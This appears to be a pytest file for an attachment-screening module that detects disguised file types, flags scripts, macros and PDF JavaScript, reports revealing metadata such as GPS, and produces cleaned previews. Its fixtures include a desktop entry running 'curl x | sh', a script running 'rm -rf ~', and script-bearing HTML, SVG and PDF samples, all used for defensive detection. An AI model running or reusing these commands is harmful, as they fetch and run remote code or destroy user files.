"""review.attachments: the real type from the content, warnings for what can run
something, revealing metadata, and safe derivatives made in a limited child."""

from __future__ import annotations

import io
import shutil
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from review.attachments import derive, detect, metadata
from tests.support.samples import SAMPLES

HTML = b"<!DOCTYPE html><html><head><title>x</title></head><body><script>alert(1)</script></body></html>\n"
SVG_SCRIPT = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><rect onload="alert(1)"/></svg>\n'
SVG_PLAIN = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>\n'
DESKTOP = b"[Desktop Entry]\nType=Application\nName=Informe\nExec=sh -c 'curl x | sh'\n"
LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\x00" * 60
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
SCRIPT = b"#!/bin/sh\nrm -rf ~\n"
PDF_JS = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
          b"2 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")


def _docm() -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")
    return sink.getvalue()


@pytest.mark.parametrize(
    ("name", "data", "declared", "detected", "expected"),
    [
        ("informe.pdf", HTML, "application/pdf", "text/html", ["type_mismatch", "extension_mismatch", "html"]),
        ("acta.pdf", SVG_SCRIPT, "application/pdf", "image/svg+xml", ["type_mismatch", "extension_mismatch", "svg_script"]),
        ("dibujo.svg", SVG_PLAIN, "image/svg+xml", "image/svg+xml", []),
        ("informe.pdf", DESKTOP, "application/pdf", "text/plain", ["type_mismatch", "extension_mismatch", "desktop_entry"]),
        ("informe.desktop", DESKTOP, "", "text/plain", ["desktop_entry"]),
        ("foto.jpg", LNK, "image/jpeg", None, ["type_mismatch", "extension_mismatch", "windows_shortcut"]),
        ("foto.jpg", ELF, "image/jpeg", None, ["type_mismatch", "extension_mismatch", "executable"]),
        ("notas.txt", SCRIPT, "text/plain", None, ["script"]),
        ("acta.docx", _docm(), "", None, ["office_macros"]),
        ("acta.pdf", PDF_JS, "application/pdf", "application/pdf", ["pdf_javascript"]),
    ],
)
def test_types_and_warnings(tmp_path, name, data, declared, detected, expected):
    path = tmp_path / name
    path.write_bytes(data)
    found = detect.inspect(path, declared, name)
    if detected:
        assert found.detected == detected
    assert [w for w in found.warnings if w not in ("type_mismatch", "extension_mismatch")] == \
        [w for w in expected if w not in ("type_mismatch", "extension_mismatch")]
    if "type_mismatch" in expected:
        assert "type_mismatch" in found.warnings


def test_the_sample_photo_and_pdf_are_what_they_say_and_reveal_who_and_where(tmp_path):
    photo = tmp_path / "foto.jpg"
    shutil.copy(SAMPLES / "foto-vehiculo-danado.jpg", photo)
    assert detect.inspect(photo, "image/jpeg", "foto.jpg").warnings == []
    items = {item.name: item for item in metadata.revealing(photo)}
    assert items["Composite:GPSPosition"].kind == "gps"
    assert items["Composite:GPSPosition"].value == "12 deg 5' 35.16\" S, 77 deg 2' 47.40\" W"
    assert items["IFD0:Model"].kind == "device" and items["IFD0:Artist"].value == "CANARY-EXIF-ARTIST-7f3a"
    pdf = tmp_path / "d.pdf"
    shutil.copy(SAMPLES / "denuncia-fiscalia.pdf", pdf)
    assert {item.name: item.kind for item in metadata.revealing(pdf)}["PDF:Author"] == "author"


def test_previews_are_fresh_pngs_and_cleaned_copies_keep_no_metadata(tmp_path):
    photo, pdf = tmp_path / "foto.jpg", tmp_path / "d.pdf"
    shutil.copy(SAMPLES / "foto-vehiculo-danado.jpg", photo)
    shutil.copy(SAMPLES / "denuncia-fiscalia.pdf", pdf)
    for mode, source in (("image-preview", photo), ("pdf-preview", pdf)):
        made = derive.make(mode, source, tmp_path / f"{mode}.png")
        with Image.open(made) as image:
            assert image.format == "PNG" and max(image.size) <= 1600 and not image.info.get("exif")
    clean_photo = derive.make("image-clean", photo, tmp_path / "clean.jpg")
    clean_pdf = derive.make("pdf-clean", pdf, tmp_path / "clean.pdf")
    assert [i for i in metadata.revealing(clean_photo)] == []
    assert [i for i in metadata.revealing(clean_pdf) if i.kind != "date"] == []
    assert b"CANARY" not in clean_photo.read_bytes() + clean_pdf.read_bytes()
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["foto.jpg", "d.pdf", "image-preview.png", "pdf-preview.png", "clean.jpg", "clean.pdf"])


def test_a_file_that_is_not_what_it_claims_gives_no_derivative(tmp_path):
    fake = tmp_path / "foto.jpg"
    fake.write_bytes(b"\xff\xd8\xff\xe0 not really a jpeg" * 10)
    with pytest.raises(derive.DeriveError):
        derive.make("image-preview", fake, tmp_path / "p.png")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["foto.jpg"]  # no partial output left


def test_a_decompression_bomb_is_refused(tmp_path):
    bomb = tmp_path / "bomb.png"
    Image.new("1", (20000, 20000)).save(bomb)  # 400 megapixels, a few kB on disk
    assert bomb.stat().st_size < 1_000_000
    with pytest.raises(derive.DeriveError):
        derive.make("image-preview", bomb, tmp_path / "p.png")
